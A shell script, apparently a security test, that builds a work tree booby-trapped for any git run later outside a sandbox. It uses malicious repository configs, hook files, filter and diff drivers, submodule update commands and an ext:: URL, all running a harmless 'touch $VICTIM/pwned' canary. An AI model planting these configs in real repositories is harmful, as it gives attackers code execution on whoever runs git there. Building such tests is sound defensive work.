# For the git that is started outside when this one has ended: repositories in the work tree, attributes, modules, each
# with programs that git would run.
harm="touch $VICTIM/pwned; cat"
repository() { # folder
  git init -q "$1" || return
  printf '[core]\n\tfsmonitor = %s\n\thooksPath = %s\n\tpager = %s\n\tsshCommand = %s\n\teditor = %s\n[alias]\n\tstatus = !%s\n\tdiff = !%s\n[diff]\n\texternal = %s\n[filter "evil"]\n\tclean = %s\n\tsmudge = %s\n\tprocess = %s\n\trequired = true\n[diff "evil"]\n\ttextconv = %s\n\tcommand = %s\n[merge "evil"]\n\tdriver = %s\n[credential]\n\thelper = !%s\n[gpg]\n\tprogram = %s\n' \
    "$harm" "$PWD/hooks" "$harm" "$harm" "$harm" "$harm" "$harm" "$harm" "$harm" "$harm" "$harm" "$harm" "$harm" "$harm" "$harm" "$harm" >>"$1/.git/config"
  echo x >"$1/file"
  echo '* filter=evil diff=evil merge=evil' >"$1/.gitattributes"
  git -C "$1" -c core.fsmonitor=false -c filter.evil.process= -c filter.evil.clean=cat -c core.hooksPath=/dev/null -c user.name=x -c user.email=x@x add -f . 2>/dev/null
  git -C "$1" -c core.fsmonitor=false -c core.hooksPath=/dev/null -c user.name=x -c user.email=x@x commit -qm x 2>/dev/null
  echo y >"$1/file"
}
mkdir -p hooks
for hook in pre-commit post-checkout post-index-change reference-transaction post-merge pre-push fsmonitor-watchman; do
  printf '#!/bin/sh\n%s\n' "$harm" >hooks/$hook
  chmod +x hooks/$hook
done
repository nested
repository deep/er/nested
git init -q --bare bare.git && sed -i "s|^\[core\]|[core]\n\tfsmonitor = touch $VICTIM/pwned|" bare.git/config
# The top of the work tree itself as a bare repository.
mkdir -p objects refs/heads && echo 'ref: refs/heads/main' >HEAD && cp bare.git/config config
printf '[core]\n\tfsmonitor = touch %s/pwned\n\tworktree = %s\n\tbare = false\n' "$VICTIM" "$VICTIM" >>config
printf '[submodule "m"]\n\tpath = nested\n\turl = ./nested\n\tupdate = !touch %s/pwned\n[submodule "n"]\n\tpath = deep/er/nested\n\turl = ext::sh -c "touch %s/pwned"\n' "$VICTIM" "$VICTIM" >.gitmodules
echo '* filter=evil diff=evil merge=evil' >.gitattributes
mkdir -p folder && echo "gitdir: ../nested/.git" >folder/.git && echo x >folder/file
echo 'gitdir: nested/.git' >.git 2>/dev/null
echo changed >>value
echo tried
